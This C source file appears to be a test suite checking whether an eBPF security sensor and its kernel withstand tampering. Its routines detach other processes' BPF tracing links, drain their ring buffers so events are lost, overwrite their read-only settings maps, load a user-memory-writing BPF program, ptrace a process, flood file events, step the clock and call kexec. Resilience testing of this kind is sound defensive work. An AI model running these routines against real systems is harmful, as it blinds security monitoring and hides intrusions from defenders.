// SPDX-License-Identifier: Apache-2.0
/* What is tried on the sensor itself, and on the kernel below it. */
#include <fcntl.h>
#include <linux/bpf.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#include "evade.h"

static int bpf(int command, union bpf_attr *attr)
{
	return (int)syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static int load(unsigned type, const struct bpf_insn *instructions, unsigned count,
		const char *name)
{
	union bpf_attr attr = {.prog_type = type,
			       .insns = (uintptr_t)instructions,
			       .insn_cnt = count,
			       .license = (uintptr_t) "GPL"};

	snprintf(attr.prog_name, sizeof(attr.prog_name), "%s", name);
	return bpf(BPF_PROG_LOAD, &attr);
}

/* A program that could write into the memory of others; loaded, never run. */
static int writer(char **argv)
{
	const struct bpf_insn program[] = {
		{BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -8, 0},
		{BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_1, 0, 0, 0},
		{BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_2, BPF_REG_10, 0, 0},
		{BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_2, 0, 0, -8},
		{BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_3, 0, 0, 8},
		{BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_write_user},
		{BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0},
		{BPF_JMP | BPF_EXIT, 0, 0, 0, 0}};
	int fd = load(BPF_PROG_TYPE_RAW_TRACEPOINT, program, sizeof(program) / sizeof(*program),
		      "prove_writer");

	(void)argv;
	if (fd < 0)
		return skip("this kernel refuses such a program");
	return 0;
}

/* An own filter on a socket that nobody can read: eBPF this time. */
static int socket_program(char **argv)
{
	const struct bpf_insn program[] = {{BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0},
					   {BPF_JMP | BPF_EXIT, 0, 0, 0, 0}};
	int fd = load(BPF_PROG_TYPE_SOCKET_FILTER, program, 2, "prove_filter"), pair[2];

	(void)argv;
	must(fd);
	must(socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair));
	must(setsockopt(pair[0], SOL_SOCKET, SO_ATTACH_BPF, &fd, sizeof(fd)));
	return 0;
}

/* links-detach NAME...: tries to detach every tracing link of others; the kernel may refuse each.
 */
static int detach(char **argv)
{
	unsigned asked = 0;

	(void)argv;
	for (union bpf_attr attr = {0}; !bpf(BPF_LINK_GET_NEXT_ID, &attr);
	     attr.start_id = attr.next_id) {
		int fd = bpf(BPF_LINK_GET_FD_BY_ID, &(union bpf_attr){.link_id = attr.next_id});

		if (fd < 0)
			continue;
		asked += !!bpf(BPF_LINK_DETACH,
			       &(union bpf_attr){.link_detach.link_fd = (uint32_t)fd});
		close(fd);
	}
	note("asked", "%u", asked);
	return 0;
}

/* Opens the maps of others by their numbers, and looks. */
static int maps(char **argv)
{
	unsigned opened = 0;

	(void)argv;
	for (union bpf_attr attr = {0}; !bpf(BPF_MAP_GET_NEXT_ID, &attr);
	     attr.start_id = attr.next_id) {
		int fd = bpf(BPF_MAP_GET_FD_BY_ID, &(union bpf_attr){.map_id = attr.next_id});

		if (fd < 0)
			continue;
		opened++;
		close(fd);
	}
	note("opened", "%u", opened);
	return opened ? 0 : skip("there are no maps");
}

/* Says of each ring buffer that all in it was read, again and again, for a second. */
static int steal(char **argv)
{
	unsigned rings_found = 0;
	size_t page = (size_t)sysconf(_SC_PAGESIZE);

	(void)argv;
	for (union bpf_attr attr = {0}; !bpf(BPF_MAP_GET_NEXT_ID, &attr);
	     attr.start_id = attr.next_id) {
		int fd = bpf(BPF_MAP_GET_FD_BY_ID, &(union bpf_attr){.map_id = attr.next_id});
		volatile unsigned long *consumer, *producer;

		consumer = fd < 0 ? MAP_FAILED
				  : mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
		producer = fd < 0 ? MAP_FAILED
				  : mmap(NULL, page, PROT_READ, MAP_SHARED, fd, (off_t)page);
		if (fd >= 0)
			close(fd);
		if (consumer == MAP_FAILED || producer == MAP_FAILED)
			continue; /* no ring: only rings have a second page for readers */
		rings_found++;
		for (int i = 0; i < 1000; i++) {
			*consumer = *producer;
			usleep(500);
		}
	}
	note("rings", "%u", rings_found);
	return rings_found ? 0 : skip("no ring can be mapped");
}

/* Tries to write into every map that holds somebody's settings; the kernel refuses what is frozen.
 */
static int settings(char **argv)
{
	unsigned refused = 0, taken = 0;

	(void)argv;
	for (union bpf_attr attr = {0}; !bpf(BPF_MAP_GET_NEXT_ID, &attr);
	     attr.start_id = attr.next_id) {
		static char value[1 << 20];
		struct bpf_map_info info = {0};
		int fd = bpf(BPF_MAP_GET_FD_BY_ID, &(union bpf_attr){.map_id = attr.next_id});
		uint32_t key = 0;
		union bpf_attr about = {.info = {(uint32_t)fd, sizeof(info), (uintptr_t)&info}};
		union bpf_attr change = {
			.map_fd = (uint32_t)fd, .key = (uintptr_t)&key, .value = (uintptr_t)value};

		if (fd < 0)
			continue;
		if (!bpf(BPF_OBJ_GET_INFO_BY_FD, &about) && strstr(info.name, ".rodata") &&
		    info.value_size <= sizeof(value) && !bpf(BPF_MAP_LOOKUP_ELEM, &change))
			*(bpf(BPF_MAP_UPDATE_ELEM, &change) ? &refused : &taken) += 1;
		close(fd);
	}
	note("refused", "%u", refused);
	return taken ? STATUS_FAILED : 0;
}

/* trace PID: attaches to it and lets it go. */
static int trace(char **argv)
{
	pid_t pid = (pid_t)strtoul(argv[0], NULL, 10);

	must(ptrace(PTRACE_SEIZE, pid, 0, 0));
	must(ptrace(PTRACE_INTERRUPT, pid, 0, 0));
	must(waitpid(pid, NULL, __WALL));
	must(ptrace(PTRACE_DETACH, pid, 0, 0));
	return 0;
}

/* flood SECONDS: files are opened and removed as fast as this user can. */
static int flood(char **argv)
{
	time_t end = time(NULL) + (time_t)strtoul(argv[0], NULL, 10);
	unsigned long count = 0;

	must(chmod(".", 0777));
	must(setresgid(65534, 65534, 65534));
	must(setresuid(65534, 65534, 65534));
	while (time(NULL) < end)
		for (int i = 0; i < 64; i++, count++) {
			close((int)must(open("flood", O_WRONLY | O_CREAT | O_CLOEXEC, 0600)));
			must(unlink("flood"));
		}
	note("count", "%lu", count);
	return 0;
}

/* step SECONDS: sets the clock, and sets it back. */
static int step(char **argv)
{
	long by = strtol(argv[0], NULL, 10);
	struct timespec now;

	for (int i = 0; i < 2; i++, by = -by) {
		must(clock_gettime(CLOCK_REALTIME, &now));
		now.tv_sec += by;
		must(clock_settime(CLOCK_REALTIME, &now));
		sleep(i ? 0 : 4); /* not a slip, but a state */
	}
	return 0;
}

/* Asks for a kernel to be loaded that is none: refused, but seen. */
static int kexec(char **argv)
{
	(void)argv;
	if (!syscall(SYS_kexec_file_load, -1, -1, 0UL, "", 0UL))
		return STATUS_FAILED;
	return errno == ENOSYS ? skip("this kernel cannot be replaced") : 0;
}

const struct performer tamperers[] = {{"writer", writer},
				      {"socket-program", socket_program},
				      {"detach", detach},
				      {"maps", maps},
				      {"steal", steal},
				      {"settings", settings},
				      {"trace", trace},
				      {"flood", flood},
				      {"step", step},
				      {"kexec", kexec},
				      {0}};
